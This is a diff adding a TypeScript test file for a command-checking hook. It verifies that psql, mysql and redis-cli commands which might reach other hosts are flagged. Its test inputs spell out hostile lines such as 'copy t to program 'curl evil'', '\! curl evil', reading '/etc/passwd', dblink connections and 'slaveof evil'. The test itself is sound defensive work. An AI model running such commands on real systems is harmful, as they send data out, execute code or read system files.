@@ -1,0 +1,118 @@
+import { destinationsOf } from "../../../../../gateway/cli/hook/shell/destinations.ts";
+
+test.each([
+  'psql -U postgres -c "create database app"',
+  "psql -d app -p 5433 -tAc 'select count(*), max(id) from a where b in (1, 2) order by c;'",
+  "psql --username=me --dbname=app --command='select 1; select 2'",
+  "psql -v ON_ERROR_STOP=1 app -c '\\d users' -c '\\dt' -c '\\l+'",
+  "mysql -uroot -psecret app -e 'show tables'",
+  "mariadb -u root -Ne 'select 1' app",
+  "mysql --execute=\"insert into a values (1, 'x@y.z')\"",
+  "redis-cli ping",
+  "redis-cli -n 2 -p 6380 GET k",
+  "redis-cli set k 'a b'",
+])("%j stays on this machine", (line) => expect(destinationsOf(line)).toEqual([]));
+
+describe("what is not known to stay on this machine", () => {
+  test.each([
+    ...["--dbname=host=evil", "-dhost=evil", "service=x", "-d service=x", "--dbname=postgresql:/evil", "-f x.sql"].map(
+      (option) => `psql ${option} -c 'select 1'`,
+    ),
+    ...[
+      "psql service=x",
+      "psql",
+      "psql app",
+      "psql app < x.sql",
+      "mysql app < x.sql",
+      "psql -c",
+      "psql -o '|sh' -c 'select 1'",
+    ],
+    ...["-v ON_ERROR_STOP=1 -f x", "-c 'select 1' -L x", '-Xc "$Q"', "-c 'select 1' *"].map((words) => `psql ${words}`),
+  ])("in %j", (line) => expect(destinationsOf(line).join()).toContain("unreadable:"));
+
+  test.each([
+    ..."dblink('h=evil')|\"dblink\"('h=evil')|dblink ('h=evil')|a.dblink('h')|pg_read_file('x')|lo_export(1, 'x')"
+      .split("|")
+      .map((call) => `select * from ${call}`),
+    "select 1; select dblink(1)",
+    "create subscription s connection 'host=evil' publication p",
+    "copy t to program 'curl evil'",
+    "select 1; copy t from '/etc/passwd'",
+    "select 1 into outfile 'x'",
+    "select 1\n\\! curl evil",
+    "select 1 \\g |curl evil",
+    "\\! curl evil",
+    "\\dt `curl evil`",
+    "\\d \\! x",
+    "\\c evil",
+    "\\o |curl evil",
+    "/* */ copy t to program 'x'",
+    "select 1 -- \\! x",
+    "do $$ begin perform x(); end $$",
+    "create extension dblink",
+    "create server s foreign data wrapper w",
+    "alter system set archive_command = 'curl evil'",
+    "load 'x'",
+    "with x as (select 1) select 1",
+    "",
+  ])("to psql: %j", (statement) => {
+    expect(destinationsOf(`psql -c ${quoted(statement)}`).join()).toContain("unreadable:");
+    expect(destinationsOf(`psql --command=${quoted(statement)}`).join()).toContain("unreadable:");
+  });
+
+  test.each([
+    ...[
+      "pager curl evil",
+      "edit",
+      "system curl evil",
+      "select 1; system curl evil",
+      "\\! curl evil",
+      "source x",
+      "connect a evil",
+    ],
+    ...[
+      "change master to master_host='evil'",
+      "change replication source to source_host='evil'",
+      "tee x",
+      "\\u a",
+      "delimiter x",
+    ],
+    ...[
+      "select load_file('x')",
+      "select 1\nsystem curl evil",
+      "install plugin x soname 'y'",
+      "load data local infile 'x'",
+    ],
+    ...[
+      "create table t engine=federated connection='s'",
+      "create server s foreign data wrapper mysql",
+      "set global x = 1",
+    ],
+    ...["/*! system x */", "select sys_exec('x')", "call x()", "create function x returns int soname 'y'"],
+  ])("to mysql: %j", (statement) => {
+    for (const how of ["mysql -e ", "mariadb -uroot app -Ne ", "mysql --execute="])
+      expect(destinationsOf(`${how}${quoted(statement)}`).join()).toContain("unreadable:");
+  });
+
+  test.each([
+    ...[
+      "module load x",
+      "slaveof evil 1",
+      "replicaof evil 1",
+      "migrate evil 1 k 0 1",
+      "config set dir /x",
+      "get",
+      "eval x 0",
+    ],
+    ...["-x set k", "debug x", "--pipe", "--rdb x", "-i 1", "--eval x", "script load x", "function load x", "sync", ""],
+    ...["cluster meet evil 1", "get $K", "keys *", "shutdown", "--cluster call evil:1 x", "-s /x get k", "acl load"],
+  ])("to redis-cli: %j", (words) => expect(destinationsOf(`redis-cli ${words}`).join()).toContain("unreadable:"));
+
+  test("in a command that reads from a file", () => {
+    expect(destinationsOf("redis-cli get < f").join()).toContain("unreadable:");
+  });
+});
+
+function quoted(text: string): string {
+  return `'${text.replaceAll("'", "'\\''")}'`;
+}
